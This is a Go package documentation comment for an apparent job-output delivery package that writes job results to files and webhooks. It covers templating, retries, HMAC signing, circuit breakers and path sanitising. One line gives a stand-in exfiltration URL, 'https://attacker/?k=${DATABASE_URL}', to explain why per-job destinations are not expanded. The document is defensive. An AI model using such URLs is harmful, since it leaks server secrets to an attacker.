// Package delivery sends the output of completed jobs to their destinations
// (SPEC §3 Output delivery): files and webhooks, given per job
// (output_destinations) and globally (output.global_destinations).
//
// # Destinations
//
// A destination is a core.OutputDestination{Type, Config}. ParseDestination
// reads one into a typed Destination; ValidateDestination and
// ValidateDestinations give InvalidArgument errors naming each bad field
// (config.path, config.auth.token, ...), which the API answers with 400.
//
// filesystem writes the output to a file:
//
//	{"type": "filesystem", "config": {
//	  "path": "/var/log/ratchet/{{task_name}}_{{job_uuid}}.json",
//	  "format": "json",          json | json_compact | yaml | csv | raw (see EncodeOutput)
//	  "permissions": "0644",     octal string; the mode is set exactly, whatever the umask
//	  "create_dirs": true,       create missing directories (0755); default true
//	  "overwrite": false}}       default false
//
// The file appears whole or not at all (a temporary file renamed or linked
// into place). With overwrite true an existing file is replaced. With
// overwrite false an existing file is never touched: the output goes to the
// first free name among NAME-1.EXT, NAME-2.EXT, ... so that no output is
// lost when a path template does not make names unique.
//
// webhook sends an HTTP request whose body is the JSON Envelope:
//
//	{"type": "webhook", "config": {
//	  "url": "https://example.com/hooks/{{task_name}}",
//	  "method": "POST",                          POST (default) | PUT | PATCH
//	  "headers": {"X-Team": "data"},
//	  "auth": {"type": "bearer", "token": "…"},  or basic {username, password},
//	                                             or api_key {key, header (default X-API-Key)}
//	  "signature": {"secret": "…", "header": "X-Ratchet-Signature"},
//	  "timeout": 10,                             seconds, or "10s"; per attempt
//	  "retry_policy": {"max_attempts": 3, "initial_delay_ms": 1000,
//	                   "max_delay_ms": 30000, "backoff_multiplier": 2}}}
//
// A 2xx answer is success. 408, 429, 5xx, network errors and timeouts are
// retried with the policy (a Retry-After header lengthens the wait, up to
// the policy's maximum delay); other answers, 3xx included (redirects are
// not followed), are final. The signature header is "sha256=" and the hex
// HMAC-SHA256 of the exact body with the secret (Sign, VerifySignature);
// the body is the same on every attempt. Each request also carries
// X-Ratchet-Delivery (the delivery id, for deduplication) and
// X-Ratchet-Attempt.
//
// Paths and URLs are templates over the variables of Vars ({{task_name}},
// {{job_uuid}}, {{timestamp}}, ...). In paths a value cannot add or climb
// directories ("/" becomes "_", ".." becomes "_"); in URLs values are
// escaped.
//
// # Environment variables
//
// Nothing here expands ${VAR}. Configuration files are expanded by the
// config loader when they are read, so global destinations arrive expanded;
// per-job destinations come from API requests, and expanding them would let
// any API client read the server's environment (a webhook URL of
// "https://attacker/?k=${DATABASE_URL}"). "${X}" in a per-job destination
// is literal text.
//
// # Deliverer
//
// A Deliverer, built with New from a ResultStore and a Config, delivers to
// every destination of a job at once. Each destination has a circuit
// breaker (keyed by its type and its path or URL template, so that one
// failing endpoint fails fast instead of tying up slots), each attempt
// waits for one of Config.MaxConcurrent slots, and every attempt is stored
// as a core.DeliveryResult. Config.FilesystemRoots confines the files that
// per-job destinations may write; results and logs show webhook URLs
// without their query and user info.
package delivery
